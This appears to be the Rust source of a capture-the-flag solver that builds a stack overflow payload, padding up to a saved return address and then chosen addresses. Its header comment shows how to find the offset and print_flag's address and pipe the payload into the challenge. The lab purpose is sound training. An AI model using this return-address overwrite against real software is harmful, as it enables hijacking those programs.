/*
 * Produces the overflow payload for the challenge: padding up to the saved return
 * address, then the chain of words given with `-a`.
 *
 * Typical use against a protections-off build, where the challenge logs the offset:
 *   echo hi | RUST_LOG=debug ./challenge 2>&1 | grep 'return address'
 *   nm target/unprotected/challenge | grep ' print_flag$'
 *   solver -o <offset> -a <address> -n | ./challenge
 */
#![deny(clippy::pedantic)]

use std::{
    io::{self, Write},
    process,
};

use clap::Parser;
use ctf_bolts::{
    cli::SolverOptions, fs::write_file_atomic, payload::PayloadBuilder, Error, SimpleStderrLogger,
};

fn solve(options: &SolverOptions) -> Result<(), Error> {
    let payload = PayloadBuilder::new(options.offset)
        .pad(options.pad)
        .words(options.addresses.iter().copied())
        .newline(options.newline)
        .build()?;

    match &options.output {
        Some(path) => {
            write_file_atomic(path, &payload)?;
            log::info!("Wrote {} bytes to {}", payload.len(), path.display());
        }
        None => {
            let mut stdout = io::stdout().lock();
            stdout.write_all(&payload)?;
            stdout.flush()?;
        }
    }
    Ok(())
}

fn main() {
    let options = SolverOptions::parse();

    if SimpleStderrLogger::set_logger().is_ok() {
        log::set_max_level(if options.verbose {
            log::LevelFilter::Debug
        } else {
            log::LevelFilter::Warn
        });
    }

    if let Err(err) = solve(&options) {
        eprintln!("solver: {err}");
        process::exit(1);
    }
}
